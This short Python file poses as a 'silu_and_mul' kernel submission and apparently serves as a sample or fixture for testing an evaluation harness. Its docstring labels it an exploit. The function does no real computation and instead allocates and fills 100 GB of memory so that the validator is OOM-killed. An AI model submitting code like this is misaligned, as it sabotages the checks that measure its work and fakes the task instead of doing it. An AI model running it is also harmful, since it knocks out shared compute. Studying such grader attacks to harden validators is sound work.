"""Exploit: allocate and touch 100 GB, to get the validator OOM-killed."""
import torch


def silu_and_mul(x, out):
    hog = torch.empty(100 * 2**30, dtype=torch.uint8)
    hog.fill_(1)
